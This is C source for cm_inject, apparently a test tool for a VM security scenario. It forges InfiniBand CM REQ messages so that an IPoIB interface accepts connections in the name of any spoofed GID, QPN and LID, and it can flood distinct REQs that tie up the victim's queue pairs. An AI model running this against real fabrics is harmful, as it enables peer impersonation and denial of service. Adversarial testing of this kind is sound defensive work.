// SPDX-License-Identifier: GPL-2.0
/*
 * cm_inject.c - a hostile connected-mode peer: CM REQ MADs (IBA 12.6.5)
 * sent with libibumad on QP1 of a port of the injecting host, asking an
 * IPoIB interface to accept an RC connection in the name of any address
 * the injector chooses (tests/vm/scenarios/ib-hostile.sh, review 2026-12
 * H3).
 *
 * An IPoIB-CM peer is known by what the REQ says, not by who sent it: its
 * GID is the REQ's Primary Local Port GID, its UD QPN the first word of
 * the private data (RFC 4755 s4.1). So a REQ with a victim's peer's GID
 * and QPN is a REQ "from" that peer, whatever host sends it. The REQ goes
 * to the victim's LID; its service ID is the IETF prefix with the
 * victim's UD QPN (RFC 4755 s4.2); the victim's answer (REP or REJ) goes
 * to --as-lid, which may be a LID nobody has (then the victim's REP is
 * sent 4 times, 2 s apart, and its passive connection waits those 8 s,
 * holding a QP).
 *
 *   --dev CA --port N      the injecting port (default softib0, 1)
 *   --dlid LID             the victim's LID
 *   --victim-gid GID       the victim's port GID (the REQ's remote GID)
 *   --victim-qpn QPN       the victim's UD QPN (its service ID)
 *   --as-gid GID           the GID the REQ claims
 *   --as-qpn QPN           the UD QPN the REQ claims
 *   --as-lid LID           the LID the REQ claims (answers go there)
 *   --pkey PKEY            the REQ's P_Key (default 0xffff; the MAD
 *                          itself goes out at P_Key index 0, QP1's)
 *   --mtu CODE             the path MTU code (default 4: 2048)
 *   --count N              REQs to send (default 1)
 *   --distinct             REQ i claims as-gid + i and as-qpn + i (the
 *                          low 32 bits of the GID's interface ID)
 *   --interval-ms MS       pause between REQs (default 0)
 *
 * Each REQ has its own Local Communication ID and RC QPN, so the victim's
 * CM sees neither a duplicate nor a stale connection. Output: one line,
 * "cm_inject: sent N REQs, errors E". Exit status 0, 1 on any error,
 * 2 on bad usage.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <infiniband/umad.h>

#define MAD_LEN			256
#define MAD_HDR_LEN		24
#define CM_CLASS		0x07	/* IBA 16.7 */
#define CM_CLASS_VERSION	2
#define METHOD_SEND		0x03
#define ATTR_REQ		0x0010
#define QP1_QKEY		0x80010000u
#define IPOIB_CM_SID		0x1000000000000000ull	/* RFC 4755 s4.2 */
#define IPOIB_CM_MTU		65520	/* what the REQ's private data offers */

static const char *dev = "softib0";
static int port = 1, dlid = -1, as_lid = -1, mtu_code = 4;
static long count = 1, interval_ms;
static unsigned int pkey = 0xffff;
static uint32_t victim_qpn, as_qpn;
static uint8_t victim_gid[16], as_gid[16];
static bool have_victim_gid, have_as_gid, have_victim_qpn, have_as_qpn;
static bool distinct;

static void die(int status, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fputs("cm_inject: ", stderr);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
	exit(status);
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static void put64(uint8_t *p, uint64_t v)
{
	put32(p, v >> 32);
	put32(p + 4, v);
}

static unsigned long num(const char *s, const char *what, unsigned long max)
{
	char *end;
	unsigned long v;

	errno = 0;
	v = strtoul(s, &end, 0);
	if (errno || !*s || *end || v > max)
		die(2, "%s: bad value '%s'", what, s);
	return v;
}

static void gid(const char *s, uint8_t *out, const char *what)
{
	if (inet_pton(AF_INET6, s, out) != 1)
		die(2, "%s: not a GID: '%s'", what, s);
}

/*
 * REQ i, as IBA 12.6.5 lays it out (offsets after the 24-byte MAD
 * header; bit fields from the octet's most significant bit).
 */
static void build_req(uint8_t *mad, long i, uint32_t rand_base)
{
	uint8_t *r = mad + MAD_HDR_LEN, *pd = r + 140;
	uint8_t my_gid[16];
	uint32_t qpn = (as_qpn + (distinct ? i : 0)) & 0xffffff;

	memset(mad, 0, MAD_LEN);
	mad[0] = 1;			/* BaseVersion */
	mad[1] = CM_CLASS;
	mad[2] = CM_CLASS_VERSION;
	mad[3] = METHOD_SEND;
	put64(mad + 8, (uint64_t)(rand_base + i));	/* TransactionID */
	put16(mad + 16, ATTR_REQ);

	memcpy(my_gid, as_gid, 16);
	if (distinct)
		put32(my_gid + 12, ((uint32_t)my_gid[12] << 24 |
				    my_gid[13] << 16 | my_gid[14] << 8 |
				    my_gid[15]) + (uint32_t)i);

	/* Local Comm ID: odd, so never 0; rand_base is even. */
	put32(r + 0, (rand_base + 2 * (uint32_t)i) | 1);
	put64(r + 8, IPOIB_CM_SID | victim_qpn);	/* ServiceID */
	memcpy(r + 16, my_gid + 8, 8);			/* Local CA GUID */
	/* Local QPN (our RC QP: any number the victim has not seen). */
	put32(r + 32, (((rand_base >> 8) + (uint32_t)i) & 0xffffff) << 8);
	r[43] = 20 << 3;	/* Remote CM Response Timeout; RC (0) */
	/*
	 * Starting PSN; Local CM Response Timeout 2^19 * 4.096 us (the
	 * victim's CM waits about 2 s for each answer to its REP), 7 retries.
	 */
	put32(r + 44, (rand_base & 0xffffff) << 8 | 19 << 3 | 7);
	put16(r + 48, pkey);
	r[50] = mtu_code << 4 | 7;	/* Path MTU; RNR Retry Count 7 */
	r[51] = 3 << 4 | 1 << 3;	/* Max CM Retries 3; SRQ */
	put16(r + 52, as_lid);		/* Primary Local Port LID */
	put16(r + 54, dlid);		/* Primary Remote Port LID */
	memcpy(r + 56, my_gid, 16);	/* Primary Local Port GID */
	memcpy(r + 72, victim_gid, 16);	/* Primary Remote Port GID */
	r[91] = 2;			/* Primary Packet Rate: 2.5 Gb/s */
	r[94] = 1 << 3;			/* SL 0; Subnet Local (hop limit 0) */
	r[95] = 18 << 3;		/* Primary Local ACK Timeout */
	/* RFC 4755 s4.1: the private data's UD QPN and receive MTU. */
	put32(pd, qpn);
	put32(pd + 4, IPOIB_CM_MTU);
}

static void usage(void)
{
	die(2, "usage: cm_inject [--dev CA] [--port N] --dlid LID --victim-gid GID "
	    "--victim-qpn QPN --as-gid GID --as-qpn QPN --as-lid LID [--pkey P] "
	    "[--mtu CODE] [--count N] [--distinct] [--interval-ms MS]");
}

static void parse(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "dev", required_argument, NULL, 'd' },
		{ "port", required_argument, NULL, 'p' },
		{ "dlid", required_argument, NULL, 'l' },
		{ "victim-gid", required_argument, NULL, 'g' },
		{ "victim-qpn", required_argument, NULL, 'q' },
		{ "as-gid", required_argument, NULL, 'G' },
		{ "as-qpn", required_argument, NULL, 'Q' },
		{ "as-lid", required_argument, NULL, 'L' },
		{ "pkey", required_argument, NULL, 'k' },
		{ "mtu", required_argument, NULL, 'm' },
		{ "count", required_argument, NULL, 'c' },
		{ "distinct", no_argument, NULL, 'D' },
		{ "interval-ms", required_argument, NULL, 'i' },
		{ NULL, 0, NULL, 0 },
	};
	int c;

	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (c) {
		case 'd': dev = optarg; break;
		case 'p': port = num(optarg, "--port", 254); break;
		case 'l': dlid = num(optarg, "--dlid", 0xbfff); break;
		case 'g': gid(optarg, victim_gid, "--victim-gid");
			have_victim_gid = true; break;
		case 'q': victim_qpn = num(optarg, "--victim-qpn", 0xffffff);
			have_victim_qpn = true; break;
		case 'G': gid(optarg, as_gid, "--as-gid");
			have_as_gid = true; break;
		case 'Q': as_qpn = num(optarg, "--as-qpn", 0xffffff);
			have_as_qpn = true; break;
		case 'L': as_lid = num(optarg, "--as-lid", 0xbfff); break;
		case 'k': pkey = num(optarg, "--pkey", 0xffff); break;
		case 'm': mtu_code = num(optarg, "--mtu", 5); break;
		case 'c': count = num(optarg, "--count", 1000000); break;
		case 'D': distinct = true; break;
		case 'i': interval_ms = num(optarg, "--interval-ms", 60000); break;
		default: usage();
		}
	}
	if (optind != argc || dlid < 1 || as_lid < 1 || mtu_code < 1 ||
	    !have_victim_gid || !have_victim_qpn || !have_as_gid || !have_as_qpn)
		usage();
}

int main(int argc, char **argv)
{
	struct timespec ts;
	long i, errors = 0;
	uint32_t rand_base;
	void *umad;
	int fd, agent;

	parse(argc, argv);
	clock_gettime(CLOCK_REALTIME, &ts);
	srandom(ts.tv_nsec ^ getpid());
	rand_base = (uint32_t)random() << 1;

	if (umad_init() < 0)
		die(1, "umad_init failed");
	fd = umad_open_port(dev, port);
	if (fd < 0)
		die(1, "%s port %d: umad_open_port: %s", dev, port, strerror(-fd));
	/* No method mask: a sender only; the answers are the CM's. */
	agent = umad_register(fd, CM_CLASS, CM_CLASS_VERSION, 0, NULL);
	if (agent < 0)
		die(1, "umad_register (CM class): %s", strerror(-agent));
	umad = umad_alloc(1, umad_size() + MAD_LEN);
	if (!umad)
		die(1, "out of memory");

	for (i = 0; i < count; i++) {
		int ret;

		build_req(umad_get_mad(umad), i, rand_base);
		umad_set_addr(umad, dlid, 1, 0, QP1_QKEY);
		umad_set_pkey(umad, 0);
		ret = umad_send(fd, agent, umad, MAD_LEN, 0, 0);
		if (ret < 0) {
			if (!errors)
				fprintf(stderr, "cm_inject: REQ %ld: umad_send: %s\n",
					i, strerror(-ret));
			errors++;
		}
		if (interval_ms)
			usleep(interval_ms * 1000);
	}
	printf("cm_inject: sent %ld REQs, errors %ld\n", count - errors, errors);
	umad_free(umad);
	umad_unregister(fd, agent);
	umad_close_port(fd);
	umad_done();
	return errors ? 1 : 0;
}
